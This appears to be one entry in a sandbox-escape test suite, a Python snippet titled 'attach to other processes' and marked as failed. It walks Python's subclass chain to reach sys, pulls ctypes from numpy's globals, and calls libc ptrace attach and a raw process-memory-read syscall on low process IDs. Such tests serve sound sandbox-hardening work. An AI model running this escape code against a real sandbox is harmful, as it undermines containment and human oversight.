# /// attack
# rows = [63]
# title = "attach to other processes"
# verdict = "failed"
# ///
sys = next(
    c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "catch_warnings"
)()._module.sys

import numpy as np

ctypes = np.ctypeslib.as_array.__globals__["ctypes"]
libc = ctypes.CDLL(None)
print([libc.ptrace(16, number, 0, 0) for number in (1, 2, 3)])
print([libc.syscall(310, number, 0, 0, 0, 0, 0) for number in (1, 3)])
